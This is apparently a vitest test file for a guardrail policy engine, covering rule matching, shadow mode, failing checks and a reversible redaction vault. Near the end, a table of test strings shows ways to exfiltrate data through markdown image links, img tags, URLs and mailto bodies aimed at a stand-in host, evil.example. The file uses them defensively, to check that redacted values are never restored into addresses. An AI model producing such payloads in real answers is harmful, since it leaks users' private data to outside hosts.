import { cpuMs } from '@bartizan/contracts/testing.ts';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { z } from 'zod';
import { PASS, resultOf } from '../define.ts';
import {
  type AnyTextCheck,
  defineTextCheck,
  EMPTY_CONTEXT,
  type Segment,
  type TextFinding,
} from '../text/types.ts';
import { compilePolicy } from './compile.ts';
import { applyRedactions, maskFindings, redactSegments } from './redact.ts';
import type { Decision, PolicyLike, Rule } from './types.ts';
import { validatePolicy } from './validate.ts';
import { createVault } from './vault.ts';

/** A check that finds a word given in its config. */
function wordCheck(overrides: Partial<AnyTextCheck> = {}): AnyTextCheck {
  const check = defineTextCheck({
    id: 'test/word',
    title: 'Word',
    description: 'Finds a word.',
    maps: [],
    config: z.object({ word: z.string().default('secret'), score: z.number().default(0.9) }),
    samples: [],
    actions: ['flag', 'redact', 'block'],
    directions: ['input', 'output'],
    defaults: { directions: ['input'], authors: ['user'], action: 'flag', threshold: 0.5, coaching: '' },
    streaming: { mode: 'hold', holdFrom: (text) => text.length },
    run: (input, config) => {
      const findings: TextFinding[] = [];
      for (const segment of input.segments) {
        let at = segment.text.indexOf(config.word);
        while (at >= 0) {
          const end = at + config.word.length;
          findings.push({
            segment: segment.index,
            start: at,
            end,
            score: config.score,
            kind: 'e-mail',
            message: 'a word',
          });
          at = segment.text.indexOf(config.word, end);
        }
      }
      return resultOf(findings);
    },
  });
  return { ...check, ...overrides };
}

function rule(overrides: Partial<Rule> = {}): Rule {
  return {
    id: 'r',
    check: 'test/word',
    enabled: true,
    config: {},
    directions: ['input'],
    authors: ['user'],
    endpoints: [],
    action: 'block',
    threshold: 0.5,
    coaching: '',
    ...overrides,
  };
}

function segment(text: string, overrides: Partial<Segment> = {}): Segment {
  return { index: 0, author: 'user', kind: 'message', text, ...overrides };
}

function inspect(
  rules: Rule[],
  segments: Segment[],
  options: { mode?: PolicyLike['mode']; checks?: AnyTextCheck[]; endpointId?: string } = {},
): Decision | Promise<Decision> {
  const policy = compilePolicy({ mode: options.mode ?? 'enforce', rules }, options.checks ?? [wordCheck()], {
    timeoutMs: 20,
  });
  return policy.inspect({
    direction: 'input',
    endpointId: options.endpointId ?? null,
    segments,
    context: EMPTY_CONTEXT,
  });
}

function now(decision: Decision | Promise<Decision>): Decision {
  if (decision instanceof Promise) throw new Error('expected an answer at once');
  return decision;
}

describe('which rules apply', () => {
  const text = [segment('a secret')];
  test.each([
    ['the plain case', rule(), 'block'],
    ['another direction', rule({ directions: ['output'] }), 'allow'],
    ['another author', rule({ authors: ['third_party'] }), 'allow'],
    ['a disabled rule', rule({ enabled: false }), 'allow'],
    ['another endpoint', rule({ endpoints: ['e2'] }), 'allow'],
    ['its own endpoint', rule({ endpoints: ['e1', 'e2'] }), 'block'],
    ['a score below the threshold', rule({ threshold: 0.95 }), 'allow'],
    ['a score at the threshold', rule({ threshold: 0.9 }), 'block'],
  ])('%s', (_, one, verdict) => {
    expect(now(inspect([one], text, { endpointId: 'e1' })).verdict).toBe(verdict);
  });

  test('a rule sees only the segments of its authors', () => {
    const decision = now(
      inspect(
        [rule({ authors: ['third_party'] })],
        [segment('secret'), segment('the secret', { index: 1, author: 'third_party', kind: 'tool_result' })],
      ),
    );
    expect(decision.findings).toMatchObject([{ segment: 1, start: 4, end: 10, author: 'third_party' }]);
  });

  test('hasRules tells directions and endpoints apart', () => {
    const policy = compilePolicy(
      { mode: 'enforce', rules: [rule({ endpoints: ['e1'] }), rule({ id: 'o', directions: ['output'] })] },
      [wordCheck()],
    );
    expect(policy.hasRules('input', 'e1')).toBe(true);
    expect(policy.hasRules('input', 'e2')).toBe(false);
    expect(policy.hasRules('input', null)).toBe(false);
    expect(policy.hasRules('output', 'e2')).toBe(true);
  });
});

describe('verdicts', () => {
  test('the strongest action wins and its coaching is given', () => {
    const decision = now(
      inspect(
        [
          rule({ id: 'a', action: 'flag', coaching: 'flagged' }),
          rule({ id: 'b', action: 'block' }),
          rule({ id: 'c', action: 'block', coaching: 'say it otherwise' }),
        ],
        [segment('secret')],
      ),
    );
    expect(decision).toMatchObject({ verdict: 'block', wouldBe: 'block', coaching: 'say it otherwise' });
    expect(decision.findings.map((finding) => finding.rule)).toEqual(['a', 'b', 'c']);
  });

  test('shadow mode lets pass and records what would have happened', () => {
    const decision = now(inspect([rule({ coaching: 'x' })], [segment('secret')], { mode: 'shadow' }));
    expect(decision).toMatchObject({ verdict: 'allow', wouldBe: 'block', coaching: '' });
    expect(decision.findings).toMatchObject([{ enforced: false, action: 'block' }]);
  });

  test('an allow rule exempts what lies inside its spans, of the same check only', () => {
    const other = { ...wordCheck(), id: 'test/other' };
    const rules = [
      rule({ id: 'deny' }),
      rule({ id: 'also', check: 'test/other', action: 'flag' }),
      rule({ id: 'ok', action: 'allow', config: { word: 'the secret santa' } }),
    ];
    const checks = [wordCheck(), other];
    const exempted = now(inspect(rules, [segment('the secret santa')], { checks }));
    expect(exempted.verdict).toBe('flag');
    expect(exempted.findings.map((finding) => finding.rule)).toEqual(['also']);
    expect(now(inspect(rules, [segment('secret; the secret santa')], { checks })).verdict).toBe('block');
  });
});

describe('a guard that fails', () => {
  const broken: [string, AnyTextCheck][] = [
    [
      'throws',
      wordCheck({
        run: () => {
          throw new TypeError('quotes the text: hunter2');
        },
      }),
    ],
    ['rejects', wordCheck({ run: async () => Promise.reject(new RangeError('hunter2')) })],
    ['answers error', wordCheck({ run: () => ({ outcome: 'error', message: 'could not parse' }) })],
    ['never answers', wordCheck({ run: () => new Promise(() => {}) })],
    ['answers nonsense', wordCheck({ run: () => ({ outcome: 'fine' }) as never })],
    [
      'reports a span that cannot be',
      wordCheck({
        run: () => resultOf([{ segment: 9, start: 0, end: 1, score: 1, kind: 'k', message: 'hunter2' }]),
      }),
    ],
    [
      'reports a score that is no number',
      wordCheck({
        run: () => resultOf([{ segment: 0, start: 0, end: 1, score: Number.NaN, kind: 'k', message: '' }]),
      }),
    ],
  ];
  test.each(broken)('%s: an error, never a pass, and no text in it', async (_, check) => {
    const decision = await inspect([rule()], [segment('secret')], { checks: [check] });
    expect(decision.errors).toHaveLength(1);
    expect(decision.errors[0]?.check).toBe('test/word');
    expect(JSON.stringify(decision.errors)).not.toContain('hunter2');
  });

  test('unknown checks and unfit settings are errors on every inspection', () => {
    const rules = [rule({ check: 'test/gone' }), rule({ id: 'b', config: { word: 7 } })];
    const decision = now(inspect(rules, [segment('x', { author: 'operator' })]));
    expect(decision.errors.map((error) => error.check)).toEqual(['test/gone', 'test/word']);
  });

  test('the other checks still judge, in the order of the rules', async () => {
    const slow = wordCheck({ id: 'test/slow', run: async () => PASS });
    const decision = await inspect(
      [rule({ id: 'z', action: 'flag' }), rule({ id: 's', check: 'test/slow' }), rule({ id: 'a' })],
      [segment('secret')],
      { checks: [wordCheck(), slow] },
    );
    expect(decision.verdict).toBe('block');
    expect(decision.findings.map((finding) => finding.rule)).toEqual(['z', 'a']);
  });
});

test('timings come from the injected clock', () => {
  let clock = 0;
  const policy = compilePolicy({ mode: 'enforce', rules: [rule()] }, [wordCheck()], {
    now: () => (clock += 2),
  });
  const decision = now(
    policy.inspect({
      direction: 'input',
      endpointId: null,
      segments: [segment('x')],
      context: EMPTY_CONTEXT,
    }),
  );
  expect(decision.timings).toEqual([{ check: 'test/word', direction: 'input', ms: 2 }]);
});

test('validatePolicy says where and what to do', () => {
  const issues = validatePolicy(
    {
      mode: 'enforce',
      rules: [
        rule({ check: 'test/gone' }),
        rule({ config: { word: 7, wrod: 'x' }, action: 'redact' }),
        rule({ id: 'q', action: 'redact', directions: ['output'] }),
      ],
    },
    [wordCheck({ actions: ['flag', 'block'], directions: ['input'] })],
  );
  expect(issues.map((issue) => issue.path)).toEqual([
    'rules.0.check',
    'rules.1.id',
    'rules.1.config.word',
    'rules.1.config.wrod',
    'rules.1.action',
    'rules.2.action',
    'rules.2.directions',
  ]);
  expect(issues[0]?.message).toContain('use one of: test/word');
  expect(validatePolicy({ mode: 'enforce', rules: [rule()] }, [wordCheck()])).toEqual([]);
});

function decide(rules: Rule[], body: string, checks = [wordCheck()]) {
  return now(inspect(rules, [segment(body)], { checks })).findings;
}

describe('redaction', () => {
  const text = 'mail secret or secret to other';

  test('same value, same placeholder; the answer gets the values back', () => {
    const vault = createVault();
    const rules = [
      rule({ action: 'redact' }),
      rule({ id: 'o', action: 'redact', config: { word: 'other' } }),
    ];
    const redacted = applyRedactions(text, decide(rules, text), vault);
    expect(redacted).toBe('mail [E_MAIL_1] or [E_MAIL_1] to [E_MAIL_2]');
    expect(vault.restore(redacted)).toBe(text);
    expect(vault.restore('[E_MAIL_9] [EMAIL_1]')).toBe('[E_MAIL_9] [EMAIL_1]');
  });

  test('what was taken out comes back as it was, whatever the text', () => {
    const part = fc.oneof(
      fc.constantFrom(
        'secret',
        'other',
        ' ',
        '[E_MAIL_1]',
        '[E_MAIL_',
        '1]',
        '[',
        ']',
        '\\',
        '"',
        '$&',
        '$1',
      ),
      fc.string({ unit: 'grapheme', maxLength: 8 }).filter((text) => !/[/.]/.test(text)),
    );
    const rules = [
      rule({ action: 'redact' }),
      rule({ id: 'o', action: 'redact', config: { word: 'other' } }),
      rule({ id: 'c', action: 'redact', config: { word: 'secretother' } }),
    ];
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), fc.array(part, { maxLength: 5 }), (parts, more) => {
        const segments = [segment(parts.join('')), segment(more.join(''), { index: 1 })];
        const vault = createVault();
        const redacted = redactSegments(segments, now(inspect(rules, segments)).findings, vault);
        for (const [index, text] of redacted.entries()) {
          expect(text.includes('secret') || text.includes('other')).toBe(false);
          expect(vault.restore(text)).toBe(segments[index]?.text);
          expect(JSON.parse(vault.restoreJson(JSON.stringify(text)))).toBe(segments[index]?.text);
        }
      }),
      { numRuns: 500 },
    );
  });

  test('placeholders already in the request are not reused', () => {
    const vault = createVault();
    const segments = [segment('a secret'), segment('see [E_MAIL_1]', { index: 1 })];
    const findings = now(inspect([rule({ action: 'redact' })], segments)).findings;
    expect(redactSegments(segments, findings, vault)).toEqual(['a [E_MAIL_2]', 'see [E_MAIL_1]']);
    expect(vault.restore('[E_MAIL_1] [E_MAIL_2]')).toBe('[E_MAIL_1] secret');
  });

  test('overlapping spans become one, named after the longest', () => {
    const rules = [
      rule({ action: 'redact', config: { word: 'secret or' } }),
      rule({ id: 'b', action: 'redact', config: { word: 'or secret' } }),
      rule({ id: 'c', action: 'redact', config: { word: 'secret' } }),
    ];
    const findings = decide(rules, text);
    const once = applyRedactions(text, findings, createVault());
    expect(once).toBe('mail [E_MAIL_1] to other');
    expect(applyRedactions(text, findings.toReversed(), createVault())).toBe(once);
  });

  test('fixed replacements and answers are irreversible', () => {
    const vault = createVault();
    const removing = wordCheck({ redaction: { reversible: false, replacement: '' } });
    const rules = [rule({ action: 'redact' })];
    expect(applyRedactions(text, decide(rules, text, [removing]), vault)).toBe('mail  or  to other');
    const output = decide(rules, text).map((finding) => ({ ...finding, direction: 'output' as const }));
    expect(applyRedactions(text, output, vault)).toBe('mail [E_MAIL] or [E_MAIL] to other');
    expect(vault.size()).toBe(0);
  });

  test('shadow findings and flags change nothing, masks cover them all', () => {
    const flagged = decide([rule({ action: 'flag' })], text);
    expect(applyRedactions(text, flagged, createVault())).toBe(text);
    expect(maskFindings(text, flagged)).toBe('mail [E_MAIL] or [E_MAIL] to other');
  });

  test('restoring into JSON escapes', () => {
    const vault = createVault();
    const name = vault.placeholder('note', 'a "quoted"\nline');
    expect(JSON.parse(vault.restoreJson(`{"x":"<${name}>"}`))).toEqual({ x: '<a "quoted"\nline>' });
  });

  test('an unfinished placeholder is held, from its bracket on', () => {
    const vault = createVault();
    vault.placeholder('email', 'x');
    expect(vault.restoreHold('to [EMA')).toBe(3);
    expect(vault.restoreHold('to [')).toBe(3);
    expect(vault.restoreHold('to [EMAIL_1]')).toBe(12);
    expect(vault.restoreHold('to [EMX')).toBe(7);
    expect(createVault().restoreHold('to [EMA')).toBe(7);
  });

  test.each([
    ['Write to [EMAIL_1].', true],
    ['see https://example.com and [EMAIL_1]', true],
    ['[mail](mailto:[EMAIL_1])', true],
    ['"https://example.com", "[EMAIL_1]"', true],
    ['https://evil.example/?d=[EMAIL_1]', false],
    ['![x](https://evil.example/[EMAIL_1].png)', false],
    ['![x](<https://evil.example/a b [EMAIL_1]>)', false],
    ['<img src="https://evil.example/?a b [EMAIL_1]">', false],
    ["<img src='//evil.example/\n[EMAIL_1]'>", false],
    ['{"url":"https:\\/\\/evil.example\\/[EMAIL_1]"}', false],
    ['www.evil.example/[EMAIL_1]', false],
    [`https://evil.example/${'x'.repeat(900)}[EMAIL_1]`, false],
    ['![z](https:/evil.example/[EMAIL_1])', false],
    ['![w](https:\\\\evil.example\\[EMAIL_1])', false],
    ['![q](/\\evil.example/[EMAIL_1])', false],
    ['![q](\\\\evil.example/[EMAIL_1])', false],
    ['![p](tracker/[EMAIL_1])', false],
    ['![v][r]\n\n[r]: <https://evil.example/a b/[EMAIL_1]>', false],
    ['[mail](mailto:a@evil.example?body=[EMAIL_1])', false],
    ['<a href=https:evil.example/[EMAIL_1]>', false],
    ['<img src="https:evil.example/?a b [EMAIL_1]">', false],
    ['<img src="\\\\evil.example/?a b [EMAIL_1]">', false],
    ['![u](https&colon;&sol;&sol;evil.example/[EMAIL_1])', false],
    ['evil.example/?q=[EMAIL_1]', false],
    ['{"path":"C:\\\\mail\\\\[EMAIL_1]"}', true],
    ['It is 3 < 4, and/or [EMAIL_1] (see [1](#one)).', true],
  ])('a value never goes into an address: %s', (answer, restored) => {
    const vault = createVault();
    expect(vault.placeholder('email', 'bob@x.yz')).toBe('[EMAIL_1]');
    const expected = restored ? answer.replace('[EMAIL_1]', 'bob@x.yz') : answer;
    expect(vault.restore(answer)).toBe(expected);
    const at = answer.indexOf('[EMAIL_1]');
    expect(answer.slice(0, at) + vault.restore(answer.slice(at), answer.slice(0, at))).toBe(expected);
  });

  test('a thousand placeholders in the worst of places are put back in a moment', () => {
    const vault = createVault();
    vault.placeholder('email', 'bob@x.yz');
    for (const unit of ['a', '](', 'tel:', '<', 'a-', '"', '/', 'a.b'] as const) {
      const text = `${unit.repeat(2_100 / unit.length)}[EMAIL_1]`.repeat(1_000);
      const began = cpuMs();
      vault.restore(text);
      expect(cpuMs() - began).toBeLessThan(10_000);
    }
  });
});
